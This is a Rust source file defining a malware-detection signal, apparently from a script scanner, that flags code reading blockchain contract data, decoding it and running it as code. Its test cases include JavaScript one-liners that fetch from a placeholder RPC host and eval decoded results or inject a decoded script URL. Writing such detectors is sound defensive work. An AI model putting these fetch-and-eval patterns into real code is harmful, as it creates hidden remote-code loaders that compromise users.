//! `chain-answer-run`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "chain-answer-run",
    description: "The script decodes data from a blockchain contract and runs it as code.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::ChainCall, Atom::ChainRead]),
        one(&[Atom::ValueRun, Atom::RemoteRun, Atom::AnswerRun, Atom::ScriptFromAnswer]),
        one(&[Atom::Decode, Atom::FromCodes, Atom::AnswerBody, Atom::Request]),
    ],
    within: 250,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "fetch('https://rpc.example',{method:'POST',body:JSON.stringify({method:'eth_call',params:[{to:a,data:d},'latest']})}).then(r=>r.json()).then(j=>eval(atob(j.result)))",
            "const p=new ethers.providers.JsonRpcProvider('https://rpc.example/');const c=new ethers.Contract(a,['function get() view returns (string)'],p);c.get().then(l=>{eval(atob(l))})",
            "fetch('https://rpc.example',{method:'POST',body:JSON.stringify({method:'getSignaturesForAddress',params:[a,{limit:1}]})}).then(r=>r.json()).then(j=>{const m=JSON.parse(j.result[0].memo);const s=document.createElement('script');s.src=atob(m.link);document.head.append(s)})",
        ],
        without: &[
            "fetch(rpc,{method:'POST',body:JSON.stringify({jsonrpc:'2.0',method:'eth_call',params:[{to:token,data:'0x70a08231'+a},'latest']})}).then(r=>r.json()).then(j=>{out.textContent=BigInt(j.result)})",
        ],
    },
};
